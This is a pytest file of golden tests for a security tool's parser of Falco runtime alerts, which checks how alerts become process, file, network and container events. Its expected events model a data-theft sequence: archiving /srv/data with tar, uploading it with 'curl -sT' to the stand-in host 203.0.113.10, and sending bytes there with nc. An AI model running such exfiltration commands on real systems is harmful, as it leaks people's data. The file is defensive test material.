"""Golden tests for the Falco source: hand-written alerts in Falco's ``json_output`` form."""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path

import pytest

from tests.helpers import OCSF, TETRAGON, read
from tidewaiter.events import (
    Activity,
    Container,
    Endpoint,
    Event,
    File,
    Image,
    Kind,
    Mount,
    Process,
    RawRef,
    Traffic,
)
from tidewaiter.sources import get

API = Container(
    uid="3ad7b26ded6d",
    name="api",
    image=Image(name="registry.example.com/shop/api:1.4.2"),
    pod_name="api-7d9f8b6c5-x2k4q",
    namespace="shop",
)
STAGER = Container(uid="9f1c2e4a7b3d", name="stager", image=Image(name="alpine:3.19"))
SYSMON_XML = (
    b'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
    b'<Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID></System></Event>\n'
)
SYSMON_JSON = (
    b'{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational"}}}\n'
)


@pytest.fixture(scope="module")
def alerts(fixtures: Path) -> Path:
    return fixtures / "falco" / "alerts.jsonl"


@pytest.fixture(scope="module")
def events(alerts: Path) -> list[Event]:
    return read(alerts)[0]


def ref(path: Path, line: int) -> RawRef:
    return RawRef("falco", str(path), line=line)


def test_alerts_are_sniffed_and_counted(alerts: Path) -> None:
    events, report = read(alerts)
    assert report.files == {str(alerts): "falco"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (12, 9, 3, 0)
    assert len(events) == 9


def test_exec_in_container(alerts: Path, events: list[Event]) -> None:
    assert events[0] == Event(
        time=1714644000.123456,  # nanosecond ISO text, to the microsecond
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(alerts, 1),
        host="node-a",
        container=API,
        process=Process(
            pid=4242,
            path="/usr/bin/tar",
            cmd_line="tar -czf /tmp/data.tar.gz /srv/data",
            cwd="/srv/",
            user="root",
            parent=Process(
                pid=4100, path="/bin/sh", cmd_line="sh -c tar -czf /tmp/data.tar.gz /srv/data"
            ),
        ),
    )


def test_file_create_with_drifted_types(alerts: Path, events: list[Event]) -> None:
    # Integer-nanosecond time, string pids, the image as one container.image field, and a
    # parent known only by proc.pname.
    assert events[1] == Event(
        time=1714644001.5,
        kind=Kind.FILE,
        activity=Activity.CREATE,
        raw=ref(alerts, 2),
        host="node-a",
        container=API,
        process=Process(
            pid=4242,
            path="/usr/bin/tar",
            cmd_line="tar -czf /tmp/data.tar.gz /srv/data",
            user="root",
            parent=Process(pid=4100, path="sh"),
        ),
        file=File(path="/tmp/data.tar.gz"),
    )


def test_connect(alerts: Path, events: list[Event]) -> None:
    assert events[2] == Event(
        time=1714644002.25,
        kind=Kind.NETWORK,
        activity=Activity.CONNECT,
        raw=ref(alerts, 3),
        host="node-a",
        container=API,
        process=Process(
            pid=4250,
            path="/usr/bin/curl",
            cmd_line="curl -sT /tmp/data.tar.gz https://203.0.113.10/upload",
            user="root",
            parent=Process(pid=4100, path="sh"),
        ),
        src_endpoint=Endpoint(ip="10.244.1.17", port=51234),
        dst_endpoint=Endpoint(ip="203.0.113.10", port=443),
    )


def test_sendto_bytes_and_endpoints_from_fd_name(alerts: Path, events: list[Event]) -> None:
    # Null k8s fields and user "<NA>" become absent rather than text.
    assert events[3] == Event(
        time=1714644002.75,
        kind=Kind.NETWORK,
        activity=Activity.SEND,
        raw=ref(alerts, 4),
        host="node-a",
        container=STAGER,
        process=Process(pid=5120, path="/usr/bin/nc", cmd_line="nc 203.0.113.10 443"),
        src_endpoint=Endpoint(ip="172.17.0.3", port=51234),
        dst_endpoint=Endpoint(ip="203.0.113.10", port=443),
        traffic=Traffic(bytes_out=65536),
    )


def test_host_event_has_no_container(alerts: Path, events: list[Event]) -> None:
    assert events[4] == Event(
        time=1714644003.0,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(alerts, 5),
        host="node-a",
        process=Process(
            pid=7001,
            path="/usr/bin/tar",
            cmd_line="tar -cf /root/backup.tar /etc",
            cwd="/root/",
            user="root",
            parent=Process(pid=6990, path="bash", cmd_line="bash"),
        ),
    )


def test_ipv6_tuples_bracketed_and_as_libsinsp_writes_them(events: list[Event]) -> None:
    bracketed, bare = events[5], events[6]
    assert (bracketed.kind, bracketed.activity) == (Kind.NETWORK, Activity.CONNECT)
    assert (bare.kind, bare.activity) == (Kind.NETWORK, Activity.SEND)
    for event in (bracketed, bare):
        assert event.src_endpoint == Endpoint(ip="fd00::17", port=40000)
        assert event.dst_endpoint == Endpoint(ip="2001:db8::1", port=443)
        assert event.container == Container(uid="9f1c2e4a7b3d", name="stager")
    assert bracketed.traffic is None
    assert bare.traffic == Traffic(bytes_out=2048)  # evt.rawres written as a string


def test_rule_without_evt_type_is_a_launch_when_it_has_no_fd_fields(
    alerts: Path, events: list[Event]
) -> None:
    assert events[7] == Event(
        time=1714644005.0,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(alerts, 8),
        host="node-a",
        container=API,
        process=Process(
            pid=4300,
            path="bash",
            cmd_line="bash",
            user="root",
            parent=Process(pid=4290, path="runc"),
        ),
    )


def test_write_to_a_file_is_a_file_write(alerts: Path, events: list[Event]) -> None:
    assert events[8] == Event(
        time=1714644008.0,
        kind=Kind.FILE,
        activity=Activity.WRITE,
        raw=ref(alerts, 11),
        host="node-a",
        container=API,
        process=Process(
            pid=4242, path="/usr/bin/tar", cmd_line="tar -czf /tmp/data.tar.gz /srv/data"
        ),
        file=File(path="/tmp/data.tar.gz"),
    )


def test_alerts_with_nothing_to_use_give_no_events(events: list[Event]) -> None:
    # Line 9 is Falco's own drop report, 10 a read-only open, 12 a connect on a unix socket.
    assert [event.raw.line for event in events] == [1, 2, 3, 4, 5, 6, 7, 8, 11]


def test_malformed_lines_are_counted_and_located(fixtures: Path) -> None:
    path = fixtures / "falco" / "malformed.jsonl"
    events, report = read(path, fmt="falco")
    assert report.records == 8  # the blank line 5 is not a record
    assert report.skipped == Counter(
        {
            "malformed JSON": 2,
            "JSON is not an object": 1,
            "alert has no output_fields": 1,
            "unreadable time 'yesterday'": 1,
            "output_fields is not an object": 1,
        }
    )
    assert [(p.where, p.reason) for p in report.examples] == [
        ("line 1", "malformed JSON"),
        ("line 2", "malformed JSON"),
        ("line 4", "JSON is not an object"),
        ("line 6", "alert has no output_fields"),
        ("line 7", "unreadable time 'yesterday'"),
        ("line 8", "output_fields is not an object"),
    ]
    # A non-UTF-8 byte in an argument keeps its event, marked, and reading goes on after errors.
    assert [event.raw.line for event in events] == [3, 9]
    assert report.events == 2
    assert events[0].process is not None
    assert events[0].process.cmd_line == "zip -r /tmp/caf\ufffd.zip /srv"


def test_sniff_accepts_falco_alerts(alerts: Path) -> None:
    assert get("falco").sniff(alerts.read_bytes()[:65536])


@pytest.mark.parametrize(
    "head",
    [TETRAGON, OCSF, SYSMON_XML, SYSMON_JSON, b"", b"\x00\x01binary"],
    ids=["tetragon", "ocsf", "sysmon-xml", "sysmon-json", "empty", "binary"],
)
def test_sniff_rejects_other_formats(head: bytes) -> None:
    assert not get("falco").sniff(head)


@pytest.mark.parametrize("name", ["conn.log", "conn.json", "dns.log", "broken.log"])
def test_sniff_rejects_zeek(fixtures: Path, name: str) -> None:
    assert not get("falco").sniff((fixtures / "zeek" / name).read_bytes())


@pytest.mark.corpus
def test_sniff_rejects_real_tetragon_exports(corpus: Path) -> None:
    files = sorted((corpus / "tetragon").glob("*.json*"))
    assert files
    for path in files:
        assert not get("falco").sniff(path.read_bytes()[:65536]), path.name


def test_container_mounts_become_a_start_event_once(tmp_path: Path) -> None:
    fields = {
        "container.id": "5e1f00d2a3b4",
        "container.name": "debug",
        "container.mounts": (
            "/:/host::true:rprivate /etc/resolv.conf:/etc/resolv.conf::false:rprivate"
        ),
        "evt.type": "execve",
        "proc.name": "sh",
        "proc.exepath": "/bin/sh",
        "proc.cmdline": "sh",
        "proc.pid": 7,
    }
    line = {
        "hostname": "n1",
        "output": "x",
        "priority": "Notice",
        "rule": "Launch Sensitive Mount Container",
        "source": "syscall",
        "time": "2026-01-01T00:00:00Z",
        "output_fields": fields,
    }
    path = tmp_path / "falco.jsonl"
    path.write_text(json.dumps(line) + "\n" + json.dumps(line) + "\n")
    events, report = read(path)
    starts = [e for e in events if e.kind is Kind.CONTAINER]
    assert len(starts) == 1  # the second record repeats the same mounts
    [start] = starts
    assert start.api is not None
    assert start.api.mounts == (
        Mount(source="/", destination="/host", read_only=False),
        Mount(source="/etc/resolv.conf", destination="/etc/resolv.conf", read_only=True),
    )
    assert report.events == 3
